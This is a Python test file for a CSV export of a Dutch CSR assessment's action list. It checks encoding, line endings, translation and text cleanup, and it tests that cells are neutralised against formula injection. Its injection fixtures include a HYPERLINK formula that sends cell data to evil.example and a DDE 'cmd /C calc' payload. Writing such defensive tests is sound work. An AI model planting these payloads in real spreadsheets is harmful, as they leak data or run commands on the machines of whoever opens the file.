"""The action list as CSV: opens with the csv module, BOM first, nothing Excel would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from mvo_assessment.csv_export import FORMULA_STARTS, HEADERS, actions_csv, neutralise

from .conftest import TOOL_URL


def read(data: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("separator", [",", ";"])
def test_opens_with_the_csv_module(result: dict[str, Any], separator: str) -> None:
    data = actions_csv(result, separator=separator)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    rows = read(data, separator)
    assert rows[0] == list(HEADERS)
    assert [row[0] for row in rows[1:]] == [str(a["priority"]) for a in result["actions"]]
    assert all(len(row) == len(HEADERS) for row in rows)
    # The urgent one comes first (a gap, in the example), marked as such (QA: Excel lost the mark),
    # then the failed gate's, with its tool.
    urgent = [action["urgent"] for action in result["actions"]]
    assert [row[1] for row in rows[1:]] == ["ja" if flag else "" for flag in urgent] and urgent[0] and not urgent[1]
    assert rows[1][3] == "U zit ver onder het niveau dat past bij uw bedrijf." and rows[1][4] == ""
    second = rows[2]
    assert second[2] == "Stap 1: Beleid"
    assert second[3] == "Schrijf op wat u al doet. Dat is het begin van uw beleid."
    assert second[4] == f"Voorbeeldhulpmiddel ({TOOL_URL})"
    assert "één" in data.decode("utf-8-sig")


def test_every_row_ends_in_cr_lf(result: dict[str, Any]) -> None:
    """Each row of the action list ends in CR LF, as the CSV standard (RFC 4180) and Excel itself
    write them: what the adviser's spreadsheet and the portal's import expect. QA (mutation
    testing, fifth round): written with "\\n" the file still read back with the csv module, so
    no test noticed; this one looks at the bytes."""
    for separator in (",", ";"):
        data = actions_csv(result, separator=separator)
        rows = read(data, separator)
        assert len(rows) > 2
        text = data.decode("utf-8-sig")
        assert text.endswith('"\r\n') and text.count("\r\n") == len(rows)
        assert [line.endswith('"') for line in text.split("\r\n")[:-1]] == [True] * len(rows)


def test_no_cell_begins_with_a_formula_character(result: dict[str, Any]) -> None:
    for separator in (",", ";"):
        for row in read(actions_csv(result, separator=separator), separator):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row)


def malicious_result(text: str, title: str = "Hulpmiddel") -> dict[str, Any]:
    return {
        "steps": [{"id": "stap-1", "number": 1, "title": "-Beleid"}],
        "actions": [{"id": "rec", "step": "stap-1", "priority": 1, "urgent": False, "text": text,
                     "tools": [{"id": "t", "title": title, "url": "https://example.org", "description": ""}]}],
    }


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ('=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")', "Hulpmiddel"),
        ("+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1)"),
        ("-2+3", "=1+1"),
        ("@SUM(A1:A9)", "\tverborgen"),
        ("Gewone tekst", "\r=1"),
    ],
)
def test_formula_injection_is_neutralised(text: str, title: str) -> None:
    rows = read(actions_csv(malicious_result(text, title)), ",")
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    action = rows[1]
    assert action[2] == "Stap 1: -Beleid"
    assert action[3] == neutralise(text)  # the text itself survives, only made inert
    assert action[4] == neutralise(f"{title} (https://example.org)")


def test_hyperlink_formula_becomes_text() -> None:
    rows = read(actions_csv(malicious_result('=HYPERLINK("https://evil.example","klik")'), separator=";"), ";")
    assert rows[1][3] == '\'=HYPERLINK("https://evil.example","klik")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-5", "'-5"),
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Stap 1", "Stap 1"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_truth_table(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_markdown_is_plain_text() -> None:
    text = "Begin **klein**. Zie [de checker](https://www.mvorisicochecker.nl).\n\n- één\n- twee\n\n<script>x()</script>"
    rows = read(actions_csv(malicious_result(text)), ",")
    assert rows[1][3] == "Begin klein. Zie de checker (https://www.mvorisicochecker.nl).\n• één\n• twee"


def test_an_email_link_is_its_address_and_a_numbered_list_keeps_its_numbers() -> None:
    """QA (mutation testing): a mailto: link written out as "info@x.nl (mailto:info@x.nl)" and
    a numbered list written with bullets both passed every test. A cell cannot hold a link, so a
    link's address follows its text, but an e-mail link's text is the address already; and the
    numbers of steps to take in order are part of the text (the website and the PDF show them)."""
    text = ("Mail [info@x.nl](mailto:info@x.nl) of <vragen@x.nl>, of [ons team](mailto:team@x.nl).\n\n"
            "1. Kijk wat u al doet.\n2. Schrijf het op.\n3. Deel het.")
    rows = read(actions_csv(malicious_result(text)), ",")
    assert rows[1][3] == ("Mail info@x.nl of vragen@x.nl, of ons team (mailto:team@x.nl).\n"
                          "1. Kijk wat u al doet.\n2. Schrijf het op.\n3. Deel het.")


def test_entities_are_decoded_once() -> None:
    """QA (review): the text was unescaped a second time after the parser had decoded it, and
    `html.unescape` also reads old entity names without a semicolon: `&section=` in a link's
    address became `§ion=`, and a code `&amp;` written in the text came out as `&`."""
    text = "Zie [de gids](https://example.org/zoek?id=1&section=2&region=nl&copy=3). Schrijf `&amp;` of `&lt;b&gt;`; 5 < 6 & 7 > 6."
    rows = read(actions_csv(malicious_result(text)), ",")
    assert rows[1][3] == (
        "Zie de gids (https://example.org/zoek?id=1&section=2&region=nl&copy=3). Schrijf &amp; of &lt;b&gt;; 5 < 6 & 7 > 6."
    )


def test_headers_can_be_translated(result: dict[str, Any]) -> None:
    english = {"Prioriteit": "Priority", "Stap %(number)s: %(title)s": "Step %(number)s: %(title)s"}
    rows = read(actions_csv(result, translate=lambda s: english.get(s, s)), ",")
    assert rows[0][0] == "Priority" and rows[1][2] == "Step 1: Beleid"


def test_unknown_separator_is_refused(result: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="separator"):
        actions_csv(result, separator="\t")


def test_no_actions_gives_just_the_header() -> None:
    rows = read(actions_csv({"steps": [], "actions": []}), ",")
    assert rows == [list(HEADERS)]


def test_a_tool_in_another_language_than_the_list_says_so() -> None:
    """QA (portal): an English action list gave Dutch titles of Dutch pages without a word, where
    the results page and the PDF say "(in Dutch)"; a Dutch list says it of an English page."""
    result = malicious_result("Tekst")
    result["actions"][0]["tools"] = [
        {"id": "a", "title": "Stakeholderdialoog (SER)", "url": "https://example.org/a", "language": "nl"},
        {"id": "b", "title": "OECD Guidelines", "url": "https://example.org/b", "language": "en"},
        {"id": "c", "title": "Oud", "url": "https://example.org/c"},  # a result from before the field
    ]
    english = {"(in het Nederlands)": "(in Dutch)", "(in het Engels)": "(in English)"}
    rows = read(actions_csv(result, translate=lambda s: english.get(s, s), language="en"), ",")
    assert rows[1][4].splitlines() == [
        "Stakeholderdialoog (SER) (in Dutch) (https://example.org/a)", "OECD Guidelines (https://example.org/b)",
        "Oud (https://example.org/c)",
    ]
    rows = read(actions_csv(result), ",")
    assert rows[1][4].splitlines()[:2] == [
        "Stakeholderdialoog (SER) (https://example.org/a)", "OECD Guidelines (in het Engels) (https://example.org/b)",
    ]
